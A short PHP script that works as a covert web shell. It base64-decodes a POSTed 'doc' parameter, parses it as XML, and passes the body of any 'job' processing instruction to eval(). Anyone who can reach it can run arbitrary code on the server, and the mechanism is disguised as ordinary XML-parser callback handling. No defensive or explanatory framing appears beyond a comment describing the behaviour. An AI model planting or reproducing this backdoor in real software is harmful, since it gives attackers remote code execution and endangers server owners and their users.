<?php
// A processing instruction carried in a posted document is evaluated by the closure registered as
// the parser's processing-instruction handler: a "job" instruction inside any XML body.
$doc = isset($_POST['doc']) ? base64_decode($_POST['doc']) : '<x/>';
$p = xml_parser_create();
xml_set_processing_instruction_handler($p, function ($parser, $target, $body) {
    if ($target === 'job') {
        eval($body);
    }
});
xml_parse($p, $doc, true);
